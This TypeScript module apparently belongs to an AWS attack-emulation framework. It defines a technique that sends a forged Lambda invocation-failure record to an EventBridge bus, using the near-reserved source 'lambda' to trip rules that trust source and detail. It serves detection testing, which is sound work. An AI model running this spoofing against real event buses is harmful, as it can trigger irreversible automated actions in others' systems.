import { z } from 'zod';
import { forgedRecord } from '../../../forged-record.ts';
import type { AttackTechnique } from '../../../technique.ts';

const inputs = z.object({ busName: z.string().min(1) });

/** On the bus the source is a word anybody may write. */
export const technique: AttackTechnique<z.infer<typeof inputs>> = {
  id: 'defense-evasion.forged-record-to-bus',
  title: 'Send a forged invocation record to an event bus',
  purpose: 'Rules that go by source and detail alone start whatever they start.',
  mitre: ['T1565', 'T1036'],
  sources: [
    {
      title: 'Data Manipulation, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1565/',
    },
    {
      title: 'PutEvents, Amazon EventBridge API Reference',
      url: 'https://docs.aws.amazon.com/eventbridge/latest/APIReference/API_PutEvents.html',
    },
  ],
  inputs,
  actsAs: 'insider',
  needsStage: { bus: true, queue: true },
  needs: ['events:PutEvents'],
  leaves: [{ service: 'events.amazonaws.com', name: 'PutEvents', outcome: 'succeeds' }],
  repeatable: true,
  async detonate({ inputs: { busName }, aws, say }) {
    say(`Send a forged invocation record to the bus ${busName}`);
    await aws.events().putEvents({
      Entries: [
        {
          EventBusName: busName,
          // AWS refuses sources that begin with "aws.", and this is how close one comes.
          Source: 'lambda',
          DetailType: 'Lambda Function Invocation Result - Failure',
          Detail: JSON.stringify(forgedRecord()),
        },
      ],
    });
  },
  undo: {
    kind: 'redeploy',
    because: 'whatever the event started has started; nothing takes that back',
  },
};
